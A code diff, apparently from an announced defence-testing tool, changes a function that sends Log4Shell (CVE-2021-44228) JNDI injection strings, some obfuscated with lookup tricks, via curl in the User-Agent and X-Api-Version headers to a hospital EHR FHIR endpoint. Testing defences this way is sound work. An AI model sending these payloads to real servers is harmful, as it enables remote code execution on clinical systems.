@@ -112,11 +112,11 @@ STRINGS = ("${jndi:ldap://%s:1389/zz}", "${${lower:j}ndi:rmi://%s/zz}", "${${::-
 
 
 def try_string(number: int) -> Doing:
-    """An announced test of defences: a string of an exploit (CVE-2021-44228) in a header of a request; nobody calls back."""
+    """An announced test of defences: a string of an exploit (CVE-2021-44228) in headers of a request; nobody calls back."""
 
     def doing(hospital: Hospital, moment: datetime) -> None:
         text = STRINGS[number % len(STRINGS)] % hospital.address("manage")
-        words = ["curl", "-s", "-A", "ZZ-Test-Week/1.0", "-o", "/dev/null", "-m", "20", "-H", f"X-Api-Version: {text}"]
+        words = ["curl", "-s", "-A", f"ZZ-Test-Week/1.0 {text}", "-o", "/dev/null", "-m", "20", "-H", f"X-Api-Version: {text}"]
         call([*words, f"http://{hospital.address('ehr')}:{FHIR_PORT}/fhir/metadata"])
 
     return doing
